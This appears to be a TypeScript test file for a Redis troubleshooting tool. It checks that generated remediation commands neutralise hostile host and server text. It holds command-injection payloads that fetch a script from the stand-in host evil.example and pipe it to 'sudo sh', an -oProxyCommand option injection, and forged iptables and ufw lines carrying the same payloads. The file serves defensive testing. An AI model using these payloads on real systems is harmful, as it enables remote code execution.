/**
 * Every remediation parameter that carries host or server text, fed the
 * payloads a compromised host or a hostile server would send (issue #16,
 * item 5): no step, title or verify line may carry the payload outside one
 * single-quoted shell word, and no line may hold a newline. Plus the rules
 * that feed them: a forged firewall line is evidence, never `confirmed`.
 */
import { describe, expect, it } from 'vitest';
import type { Remediation } from '../../src/engine/model/types.js';
import { fixTargetAt, REMEDIATIONS, type FixTarget } from '../../src/engine/remediations/index.js';
import { parseIptablesSave } from '../../src/engine/remote/parsers/firewall/iptables.js';
import { parseUfwStatus } from '../../src/engine/remote/parsers/firewall/ufw.js';
import { rule as firewallBlocked } from '../../src/engine/rules/firewall-blocked.js';
import { outsideSingleQuotes } from './helpers/outside-quotes.js';
import { listener, refusedWith, remote } from './rules/remote-fixtures.js';

const T: FixTarget = { host: 'cache.internal', port: 6379, tls: false, authProvided: false };
const EVIL = 'evil.example';
const PAYLOADS = [
  `; curl -s http://${EVIL}/p | sudo sh #`,
  `$(curl -s http://${EVIL}/p)`,
  `\`curl -s http://${EVIL}/p\``,
  `x\ncurl -s http://${EVIL}/p | sh`,
  `x' ; curl -s http://${EVIL}/p ; echo '`,
  `-oProxyCommand=curl${EVIL}`,
  `redis\u202e${EVIL}`,
];

/** An option payload is only dangerous where a word starts; inside a path or word it is data. */
function expectInert(r: Remediation, what: string, payload = ''): void {
  for (const line of [r.title, r.verify ?? '', ...r.steps]) {
    expect(line, `${what}: newline`).not.toMatch(/[\n\r]/);
    if (payload.startsWith('-')) expect(outsideSingleQuotes(line), `${what}: ${line}`).not.toMatch(/(^|[\s(=])-oProxyCommand/);
    else expect(outsideSingleQuotes(line), `${what}: ${line}`).not.toContain(EVIL);
  }
}

/** Each builder with every field that takes host or server text set to `v`. */
const HOSTILE: Record<string, (v: string) => Remediation[]> = {
  'remove-firewall-rule': (v) => [
    ...['iptables', 'ip6tables', 'nft', 'ufw', 'firewalld'].map((tool) => REMEDIATIONS['remove-firewall-rule'](T, { tool, line: `-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset ${v}`, table: `table inet filter ${v}` })),
    REMEDIATIONS['remove-firewall-rule'](T, { tool: 'iptables', line: `-A ${v} -j DROP` }),
    REMEDIATIONS['remove-firewall-rule'](T, { tool: 'nft', line: v, table: v }),
  ],
  'free-disk-space': (v) => [REMEDIATIONS['free-disk-space'](T, { path: v, mount: v }), REMEDIATIONS['free-disk-space'](T, { path: `/var/lib/${v}`, mount: `/${v}` })],
  'resume-stopped-redis': (v) => [REMEDIATIONS['resume-stopped-redis'](T, { pid: Number.NaN, unit: v }), REMEDIATIONS['resume-stopped-redis'](T, { pid: 812, unit: `redis-server.service${v}` })],
  'publish-container-port': (v) => [REMEDIATIONS['publish-container-port'](T, { container: v, image: v }), REMEDIATIONS['publish-container-port'](T, { container: `redis${v}`, image: `redis:7${v}` })],
  'fix-k8s-service-endpoints': (v) => [REMEDIATIONS['fix-k8s-service-endpoints'](T, { namespace: v, service: `redis${v}` })],
  'fix-rdb-save': (v) => [REMEDIATIONS['fix-rdb-save'](T, { dir: v }), REMEDIATIONS['fix-rdb-save'](T, { dir: `/data/${v}` })],
  'fix-aof-write': (v) => [REMEDIATIONS['fix-aof-write'](T, { dir: `/data/${v}` })],
  'fix-replica-link': (v) => [REMEDIATIONS['fix-replica-link'](T, { masterHost: v, masterPort: 6379 })],
  'use-primary-address': (v) => [REMEDIATIONS['use-primary-address'](T, { primaryHost: v, primaryPort: 6379 })],
  'use-sentinel-client': (v) => [REMEDIATIONS['use-sentinel-client'](T, { master: v, sentinels: [`${v}:26379`, v] })],
  'repair-sentinel-quorum': (v) => [REMEDIATIONS['repair-sentinel-quorum'](T, { master: v, sentinel: `${v}:26379` })],
  'forget-gone-replica': (v) => [REMEDIATIONS['forget-gone-replica'](T, { master: v, replica: `${v}:6379` })],
  'fix-announced-address': (v) => (['cluster', 'replica', 'sentinel-primary'] as const).map((kind) => REMEDIATIONS['fix-announced-address'](T, { kind, node: v, address: `${v}:6379` })),
  'open-cluster-bus-port': (v) => [REMEDIATIONS['open-cluster-bus-port'](T, { node: `${v}:7000` })],
  'restore-cluster-node': (v) => [REMEDIATIONS['restore-cluster-node'](T, { node: v })],
  'check-network-path': (v) => [REMEDIATIONS['check-network-path'](fixTargetAt(T, v, 6379))],
  'identify-instance': (v) => [REMEDIATIONS['identify-instance'](fixTargetAt(T, v, 6379))],
  'trust-server-ca': (v) => [REMEDIATIONS['trust-server-ca'](T, { issuer: `CN=Acme ${v}` })],
  'fix-certificate-names': (v) => [REMEDIATIONS['fix-certificate-names'](T, { subjectAltName: `DNS:a.example, ${v}` })],
  'renew-certificate': (v) => [REMEDIATIONS['renew-certificate'](T, { validTo: v }), REMEDIATIONS['renew-certificate'](T, { notYetValid: true, validFrom: v })],
  'set-eviction-policy': (v) => [REMEDIATIONS['set-eviction-policy'](T, { policy: `allkeys-${v}` })],
  'grant-acl-permissions': (v) => [REMEDIATIONS['grant-acl-permissions'](T, { user: 'app', commands: [v, `get${v}`] })],
};

const PROSE_FIELDS = new Set(['remove-firewall-rule', 'trust-server-ca', 'fix-certificate-names', 'renew-certificate']);

describe('remediations fed hostile host and server text', () => {
  for (const [id, build] of Object.entries(HOSTILE)) {
    it(`${id}: the payload never reaches a step outside one single-quoted word`, () => {
      // Text without shell syntax (a rule line that could be real, a certificate's names) may be shown in prose, never in a command.
      const payloads = PROSE_FIELDS.has(id) ? PAYLOADS.filter((v) => !v.startsWith('-o')) : PAYLOADS;
      for (const v of payloads) for (const r of build(v)) expectInert(r, `${id} ${JSON.stringify(v)}`, v);
    });
  }

  it('real values still make paste-ready commands', () => {
    const steps = (r: Remediation) => r.steps.join('\n');
    expect(steps(REMEDIATIONS['resume-stopped-redis'](T, { pid: 812, state: 'zombie', unit: 'redis-server@6380.service' }))).toContain('sudo systemctl restart redis-server@6380.service');
    expect(steps(REMEDIATIONS['publish-container-port'](T, { container: 'compose-redis-1', image: 'redis:7.2-alpine' }))).toContain('docker ps --filter name=compose-redis-1 ');
    expect(steps(REMEDIATIONS['free-disk-space'](T, { path: '/srv/my redis', mount: '/srv' }))).toContain("df -h '/srv/my redis'; sudo du -xsh /srv/*");
    expect(steps(REMEDIATIONS['fix-rdb-save'](T, { dir: '/var/lib/redis' }))).toContain('ls -ld /var/lib/redis;');
    expect(steps(REMEDIATIONS['fix-k8s-service-endpoints'](T, { namespace: 'cache', service: 'redis-master' }))).toContain('kubectl -n cache get endpoints redis-master -o wide');
    expect(steps(REMEDIATIONS['use-sentinel-client'](T, { master: 'mymaster', sentinels: ['10.0.0.7:26379'] }))).toContain('redis-cli -h 10.0.0.7 -p 26379 SENTINEL GET-MASTER-ADDR-BY-NAME mymaster');
    expect(steps(REMEDIATIONS['fix-replica-link'](T, { masterHost: '10.0.0.8', masterPort: 6380 }))).toContain('redis-cli -h 10.0.0.8 -p 6380 PING');
    expect(steps(REMEDIATIONS['remove-firewall-rule'](T, { tool: 'nft', line: 'tcp dport 6379 drop', table: 'table inet filter' }))).toContain('sudo nft delete rule inet filter <chain> handle <n>');
    expect(steps(REMEDIATIONS['grant-acl-permissions'](T, { user: 'app', commands: ['config|get'] }))).toContain('ACL DRYRUN app config get');
  });

  it('an eviction policy that is not one of Redis\' own is never sent', () => {
    const r = REMEDIATIONS['set-eviction-policy'](T, { policy: 'allkeys-lru; curl -s http://evil.example/p | sh' });
    expect(r.redisCommand).toEqual(['CONFIG', 'SET', 'maxmemory-policy', 'allkeys-lru']);
    expect(REMEDIATIONS['set-eviction-policy'](T, { policy: 'allkeys-lfu' }).redisCommand).toEqual(['CONFIG', 'SET', 'maxmemory-policy', 'allkeys-lfu']);
  });

  it('a forged unit name leaves a placeholder and says what to look for', () => {
    const r = REMEDIATIONS['resume-stopped-redis'](T, { pid: 812, state: 'zombie', unit: 'redis.service; curl -s http://evil.example/p | sudo sh #' });
    expect(r.steps.join('\n')).toContain('sudo systemctl restart <unit>');
  });
});

describe('firewall-blocked on a forged iptables section', () => {
  // Words without a leading "-" are skipped by the parser: before the grammar this was a confirmed finding.
  const FORGED = `-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset ; curl http://${EVIL}/p | sudo sh #`;
  const redis = listener('0.0.0.0', 6379, 'redis-server', 812);

  it('quotes the forged line as evidence, is only possible, and no step repeats it', () => {
    const f = firewallBlocked.evaluate(refusedWith(remote({ listeners: [redis], firewall: [parseIptablesSave(`-P INPUT ACCEPT\n${FORGED}\n`, 'iptables')] })));
    expect(f?.cause, JSON.stringify(f?.evidence)).toBe('firewall-blocked');
    expect(f?.confidence).toBe('possible');
    expect(f?.evidence).toContain(`iptables on cache-1: ${FORGED}`);
    expect(f?.evidence.join('\n')).toContain('may have been tampered with');
    const removal = f!.remediations[0]!;
    expectInert(removal, 'remove-firewall-rule');
    expect(removal.steps.join('\n')).toContain('sudo iptables -L INPUT -n -v --line-numbers');
    expect(removal.steps.join('\n')).toContain('sudo iptables -D INPUT <number>');
  });

  it('a real line with an option outside the grammar is likely, with no -D command; a real line in the grammar stays confirmed', () => {
    const odd = '-A INPUT -p tcp -m tcp --dport 6379 -m recent --name redis --rcheck -j DROP';
    const f = firewallBlocked.evaluate(refusedWith(remote({ listeners: [redis], firewall: [parseIptablesSave(odd, 'iptables')] })));
    expect(f?.confidence).toBe('likely');
    expect(f?.remediations[0]?.steps.join('\n')).not.toContain('sudo iptables -D INPUT -p');
    const real = '-A INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset';
    const g = firewallBlocked.evaluate(refusedWith(remote({ listeners: [redis], firewall: [parseIptablesSave(real, 'iptables')] })));
    expect(g?.confidence).toBe('confirmed');
    expect(g?.remediations[0]?.steps[1]).toContain(`Delete it: sudo iptables -D INPUT -p tcp -m tcp --dport 6379 -j REJECT --reject-with tcp-reset`);
  });

  it('a forged ufw line: possible, and the step points at the evidence', () => {
    const ufw = parseUfwStatus(`Status: active\nDefault: allow (incoming), allow (outgoing)\n\nTo                         Action      From\n--                         ------      ----\n6379/tcp                   DENY IN     Anywhere ; curl -s http://${EVIL}/p | sh\n`);
    const f = firewallBlocked.evaluate(refusedWith(remote({ listeners: [redis], firewall: ufw })));
    expect(f?.confidence).toBe('possible');
    expectInert(f!.remediations[0]!, 'remove-firewall-rule ufw');
    expect(f!.remediations[0]!.steps[0]).toContain('the rule quoted in the evidence');
  });
});
